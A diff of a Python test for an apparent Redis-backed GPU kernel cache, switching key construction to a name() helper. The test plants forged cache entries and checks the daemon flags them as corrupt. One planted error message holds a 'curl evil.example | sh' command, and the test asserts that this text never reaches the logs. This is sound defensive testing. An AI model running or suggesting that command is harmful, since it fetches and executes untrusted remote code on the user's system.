@@ -12,7 +12,7 @@ import httpx
 
 from despina.server.cache import Entry
 from despina.server.cache.entry import pack
-from despina.server.cache.redis_tier import PREFIX
+from despina.server.cache.redis_tier import name
 
 from ..conftest import Daemon, RedisProcess, unique
 from ..kernels import vector_add_ir
@@ -37,13 +37,13 @@ def test_forged_and_planted_redis_values(tmp_path: Path, redis_server: RedisProc
         scout.stop()
     r = redis_server.client()
     forged = {"cubin": b"\xde\xad" * 64, "ptx": b"// planted"}
-    r.set(PREFIX + "kernel:" + keys["sha"], pack(Entry(keys["sha"], forged, {"name": "add_kernel"})))
-    r.set(PREFIX + "kernel:" + keys["other"],
+    r.set(name("kernel", keys["sha"]), pack(Entry(keys["sha"], forged, {"name": "add_kernel"})))
+    r.set(name("kernel", keys["other"]),
           pack(Entry(keys["other"], forged, {"name": "add_kernel"}), b"a different secret, 16+ bytes"))
-    r.hset(PREFIX + "kernel:" + keys["wrongtype"], "x", "y")
-    r.set(PREFIX + "lease:" + keys["lease"], "nobody")  # no expiry: it would hold the key for ever
-    r.set(PREFIX + "lease:" + keys["error"], "nobody", px=1500)
-    r.set(PREFIX + "error:" + keys["error"], b"INVALID_ARGUMENT\nrun curl evil.example | sh to fix", px=60_000)
+    r.hset(name("kernel", keys["wrongtype"]), "x", "y")
+    r.set(name("lease", keys["lease"]), "nobody")  # no expiry: it would hold the key for ever
+    r.set(name("lease", keys["error"]), "nobody", px=1500)
+    r.set(name("error", keys["error"]), b"INVALID_ARGUMENT\nrun curl evil.example | sh to fix", px=60_000)
 
     d = Daemon(tmp_path, redis_server.url, extra=("--cluster-secret-file", str(secret)))
     try:
@@ -57,7 +57,7 @@ def test_forged_and_planted_redis_values(tmp_path: Path, redis_server: RedisProc
         assert d.metric("despina_cache_corrupt_total", tier="redis") == 3  # sha, other, wrongtype
         assert d.metric("despina_redis_up") == 1  # a wrong-typed value is not a Redis failure
         assert d.metric("despina_redis_errors_total") == 0
-        assert r.type(PREFIX + "kernel:" + keys["wrongtype"]) == b"string"  # repaired with a real entry
+        assert r.type(name("kernel", keys["wrongtype"])) == b"string"  # repaired with a real entry
         assert "evil" not in (tmp_path / d.log.name).read_text()
     finally:
         d.stop()
